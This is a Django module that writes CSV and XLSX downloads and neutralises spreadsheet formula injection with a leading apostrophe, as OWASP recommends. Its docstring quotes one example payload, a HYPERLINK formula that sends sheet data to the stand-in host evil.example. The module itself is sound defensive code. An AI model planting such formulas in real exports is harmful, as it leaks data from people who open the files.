"""
Spreadsheet downloads: every CSV (and any XLSX a module adds) is written here.

Anyone can type the text that ends up in an export (a petition's title, a
project's address), and a spreadsheet runs a cell that starts with
``= + - @``, a tab or a carriage return as a formula:
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would leak the sheet to
whoever clicks. `safe_cell` neutralises such text the way OWASP ("CSV
Injection") recommends, by a leading apostrophe, which spreadsheets read as
"this is text". Numbers are left alone: -12.5 in a numeric column is a
number, not a formula. An XLSX writer, when one is needed, passes its cells
through `safe_cell` too and uses openpyxl's write-only workbook, so a big
sheet is never held in memory whole.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from itertools import chain, islice

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import translation
from django.utils.functional import Promise

# OWASP's list: what a spreadsheet may take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A download of up to this many rows is built whole (it gets a length and
# plain tests); a longer one is streamed in pieces of this many rows.
ROWS_AT_ONCE = 2000
BOM = "\ufeff"  # spreadsheet programs then read the file as UTF-8 (Cyrillic)


def safe_cell(value):
    """Return `value` as a cell: text a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, Promise):  # a lazy translation is text, too
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: dict, fields: list[str]) -> list:
    """Return the row's values in `fields` order, each a safe cell; None is empty."""
    return ["" if row.get(name) is None else safe_cell(row.get(name)) for name in fields]


class _Line:
    """A file-like object that hands back what the csv writer writes to it."""

    def write(self, text: str) -> str:
        return text


def csv_response(
    rows: Iterable[dict], *, fields: list[str], name: str, rows_at_once: int = ROWS_AT_ONCE
) -> HttpResponse | StreamingHttpResponse:
    """
    Return the rows as a CSV download named `name`.csv (UTF-8 with a BOM).

    A big set is streamed: the rows are read and written in pieces, so an
    export of every appeal since the platform started never sits in memory.
    """
    writer = csv.writer(_Line())
    rows = iter(rows)
    first = list(islice(rows, rows_at_once))
    head = BOM + writer.writerow(fields) + _lines(writer, first, fields)
    if len(first) < rows_at_once:
        response = HttpResponse(head, content_type="text/csv; charset=utf-8")
    else:
        # The rest is read after the view returns, when the language the
        # request chose may no longer be active: choices' labels need it.
        rest = _pieces(writer, rows, fields, translation.get_language(), rows_at_once)
        response = StreamingHttpResponse(
            chain([head], rest), content_type="text/csv; charset=utf-8"
        )
    response["Content-Disposition"] = f'attachment; filename="{name}.csv"'
    return response


def _lines(writer, rows: list[dict], fields: list[str]) -> str:
    return "".join(writer.writerow(safe_row(row, fields)) for row in rows)


def _pieces(
    writer, rows: Iterator[dict], fields: list[str], language: str, size: int
) -> Iterator[str]:
    while True:
        with translation.override(language):
            piece = list(islice(rows, size))
            text = _lines(writer, piece, fields)
        if not piece:
            return
        yield text


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Excel's limit on a sheet's name; the characters it refuses in one.
SHEET_NAME_MAX = 31
_SHEET_NAME_REFUSED = str.maketrans(dict.fromkeys("[]:*?/\\", " "))


def xlsx_response(
    rows: Iterable[dict], *, fields: list[str], name: str, sheet: str = ""
) -> HttpResponse:
    """
    Return the rows as an XLSX download named `name`.xlsx, one sheet.

    openpyxl's write-only workbook writes each row as it comes, so the sheet
    is not held as cell objects; every cell passes through `safe_cell`, like
    a CSV's. Numbers stay numbers, text that would run is quoted.
    """
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    title = str(sheet or name).translate(_SHEET_NAME_REFUSED)[:SHEET_NAME_MAX] or "data"
    worksheet = book.create_sheet(title=title)
    worksheet.append([safe_cell(str(field)) for field in fields])
    for row in rows:
        worksheet.append([_xlsx_text(cell) for cell in safe_row(row, fields)])
    buffer = io.BytesIO()
    book.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{name}.xlsx"'
    return response


def _xlsx_text(cell):
    """Drop the control characters XLSX cannot hold (openpyxl would refuse the row)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", cell) if isinstance(cell, str) else cell
